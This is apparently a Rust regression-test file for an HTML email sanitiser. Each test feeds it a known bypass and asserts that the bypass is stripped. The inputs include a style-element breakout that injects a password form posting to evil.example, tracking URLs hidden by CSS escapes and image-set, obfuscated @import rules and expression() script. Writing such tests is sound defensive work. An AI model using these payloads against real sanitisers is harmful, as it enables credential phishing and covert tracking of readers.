//! The ways out of the sanitiser that issue 15.12 names, one test each. Every input here got
//! through the string rewrite that ran after ammonia before this crate (the `</style"` breakout
//! reached the frame as markup; the others kept a remote URL and miscounted it, or kept
//! `expression()`). Each was checked to fail against that code, audit or not.

use std::collections::HashMap;

use postino_html::{audit, render, SafeHtml};

fn blocked(html: &str) -> SafeHtml {
    let safe = render(html, &HashMap::new(), false);
    if let Err(violation) = audit(&safe.document, false) {
        panic!("{violation}\n{}", safe.document);
    }
    safe
}

/// The body of a document: what the sender controls.
fn body(safe: &SafeHtml) -> &str {
    let start = safe.document.find("<body>").unwrap() + "<body>".len();
    &safe.document[start..safe.document.len() - "</body></html>".len()]
}

#[test]
fn a_quote_in_a_data_url_cannot_close_the_style_element() {
    let safe = blocked(
        "<style>b{background:url(\"data:image/png,</style\\\"><form action=https://evil.example>\
         <input name=password placeholder=Password></form><img src=https://t.example/x>\")}</style>\
         <p>text</p>",
    );
    let body = body(&safe);
    for markup in ["<form", "<input", "<img"] {
        assert!(!body.contains(markup), "{markup} in {body}");
    }
    assert_eq!(body.matches("</style").count(), 1, "{body}");
    assert!(body.ends_with("</style><p>text</p>"), "{body}");
}

#[test]
fn image_set_urls_are_blocked_and_counted() {
    let safe = blocked(
        "<style>b{background-image:image-set(\"https://t.example/a.png\" 1x, \
         'https://t.example/b.png' 2x)}</style>\
         <p style=\"background-image:-webkit-image-set('http://t.example/c.png' 1x)\">x</p>",
    );
    assert_eq!(safe.blocked, 3, "{}", safe.document);
    assert!(!safe.document.contains("t.example"), "{}", safe.document);
}

#[test]
fn an_escaped_r_in_url_is_still_a_url() {
    let safe = blocked("<style>.esc{background:u\\72l(https://t.example/e.png)}</style>");
    assert_eq!(safe.blocked, 1, "{}", safe.document);
    assert!(!safe.document.contains("t.example"), "{}", safe.document);
}

#[test]
fn an_escaped_u_in_url_is_still_a_url() {
    let safe = blocked("<p style=\"background:\\75rl(https://t.example/e.png)\">x</p>");
    assert_eq!(safe.blocked, 1, "{}", safe.document);
    assert!(!safe.document.contains("t.example"), "{}", safe.document);
}

#[test]
fn import_rules_are_removed_however_spelled() {
    let safe = blocked(
        "<style>@\\69mport \"https://t.example/a.css\";@IMPORT url(//t.example/b.css);\
         p{color:red}</style>",
    );
    assert_eq!(safe.blocked, 2, "{}", safe.document);
    assert!(
        body(&safe).starts_with("<style>p{color:red}</style>"),
        "{}",
        safe.document
    );
}

#[test]
fn expressions_are_removed() {
    let safe = blocked(
        "<p style=\"width:expression(alert(1));color:red\">x</p>\
         <style>p{height:EXPRESSION(alert(2))}</style>",
    );
    assert!(
        !safe.document.to_lowercase().contains("expression"),
        "{}",
        safe.document
    );
    assert!(!safe.document.contains("alert"), "{}", safe.document);
    assert!(body(&safe).contains("color:red"), "{}", safe.document);
}

#[test]
fn urls_in_style_attributes_are_blocked_and_counted() {
    let safe = blocked(
        "<div style=\"background: URL( &quot;https://t.example/a.png&quot; )\">a</div>\
         <div style=\"list-style:url(https://t.example/b.png) inside;\
         background:image-set(&quot;https://t.example/c.png&quot; 1x)\">b</div>",
    );
    assert_eq!(safe.blocked, 3, "{}", safe.document);
    assert!(!safe.document.contains("t.example"), "{}", safe.document);
}

#[test]
fn urls_in_style_elements_are_blocked_and_counted_even_with_attributes() {
    let safe = blocked(
        "<style title=\"x\" lang=\"en\">b{background:url(https://t.example/a.png)}</style>\
         <style>i{background:url('http://t.example/b.png')}</style>",
    );
    assert_eq!(safe.blocked, 2, "{}", safe.document);
    assert!(!safe.document.contains("t.example"), "{}", safe.document);
}

/// A guard, not an escape: the rewrite works on tokens, so only real `<style>` elements and
/// `style` attributes are read as CSS.
#[test]
fn text_that_mentions_css_is_text() {
    let safe = blocked(
        "<a title=\"<style>\" href=\"https://example.org/?q=url(x)\">link</a>\
         <p>CSS: url(https://example.org/) and @import.</p>",
    );
    assert_eq!(safe.blocked, 0, "{}", safe.document);
    assert!(
        body(&safe).contains("href=\"https://example.org/?q=url(x)\""),
        "{}",
        safe.document
    );
    assert!(body(&safe).contains("<p>CSS: url(https://example.org/) and @import.</p>"));
}

/// Found by the fuzz target (a false alarm of the audit, kept as a guard): a `data:` image whose
/// text holds `, https://...` is one URL, not a list.
#[test]
fn a_data_image_holding_a_url_is_one_url() {
    let safe = blocked("<img src=\"data:image/svg+xml;base64,AA, https://t.example/2x.png 2x\">");
    assert_eq!(safe.blocked, 0);
    assert!(body(&safe).starts_with("<img src=\"data:image/svg+xml;base64,AA, https://t.example/"));
}
